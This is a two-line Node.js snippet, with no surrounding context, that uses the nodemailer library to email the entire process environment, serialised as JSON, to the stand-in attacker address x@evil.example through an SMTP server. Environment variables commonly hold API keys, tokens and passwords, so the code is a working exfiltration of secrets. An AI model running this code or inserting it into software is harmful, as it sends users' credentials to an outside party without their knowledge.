const nodemailer = require('nodemailer');
nodemailer.createTransport({ host: 'smtp.example', auth: { user: 'a', pass: 'b' } }).sendMail({ to: 'x@evil.example', text: JSON.stringify(process.env) });
